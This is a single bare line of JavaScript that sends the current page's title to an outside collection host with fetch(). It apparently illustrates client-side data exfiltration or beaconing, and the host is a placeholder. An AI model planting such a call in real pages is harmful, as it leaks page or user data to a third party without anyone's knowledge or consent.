fetch("https://collect.example/" + document.title);
